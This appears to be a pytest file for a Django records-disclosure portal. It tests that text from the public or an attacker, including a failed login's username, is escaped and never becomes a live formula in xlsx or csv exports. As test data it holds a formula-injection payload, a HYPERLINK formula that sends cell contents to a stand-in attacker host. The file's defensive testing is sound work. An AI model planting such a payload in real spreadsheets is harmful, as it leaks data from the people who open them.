"""Formula injection: text typed by the public or by an attacker never becomes a live formula
in the office's xlsx or csv exports."""

import datetime as dt
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from furong_portal.spreadsheets import cell_safe, cell_unescaped
from responsibility.models import AuditEvent
from tests.disclosure.staff import district_officer
from tests.requests.conftest import details

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_leading_text_is_escaped_and_reads_back(text):
    assert cell_safe(text) == "'" + text
    assert cell_unescaped(cell_safe(text)) == text


@pytest.mark.parametrize("value", ["区教育局", "", 3, dt.date(2020, 1, 1), None, "a=b"])
def test_other_values_pass_unchanged(value):
    assert cell_safe(value) == value


def all_cells(workbook_bytes):
    workbook = load_workbook(BytesIO(workbook_bytes))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_a_public_requests_text_is_no_formula_in_the_request_export(client, seed):
    from disclosure.requests import services

    office = district_officer()
    services.request_register(
        actor=office, details=details(None, description=PAYLOAD), channel="post", received_on=dt.date(2020, 3, 2)
    )
    client.force_login(office)
    response = client.get(
        reverse("admin:requests_informationrequest_export"), {"first": "2020-01-01", "last": "2020-12-31"}
    )
    cells = all_cells(response.content)
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + PAYLOAD in [cell.value for cell in cells]


def test_a_failed_logins_user_name_is_no_formula_in_the_audit_export(client, seed):
    client.post(reverse("admin:login"), {"username": PAYLOAD, "password": "x", "next": "/admin/"})
    assert AuditEvent.objects.filter(username=PAYLOAD).exists()
    from tests.factories import UserFactory

    client.force_login(UserFactory(username="auditor-root", is_staff=True, is_superuser=True))
    fields = {f"auditeventresource_{name}": "on" for name in ("created_at", "username", "action", "outcome")}
    as_csv = client.post(reverse("admin:responsibility_auditevent_export"), {"format": "0", "resource": "0", **fields})
    assert "'" + PAYLOAD.replace('"', '""') in as_csv.content.decode("utf-8-sig")
    as_xlsx = client.post(reverse("admin:responsibility_auditevent_export"), {"format": "1", "resource": "0", **fields})
    cells = all_cells(as_xlsx.content)
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + PAYLOAD in [cell.value for cell in cells]


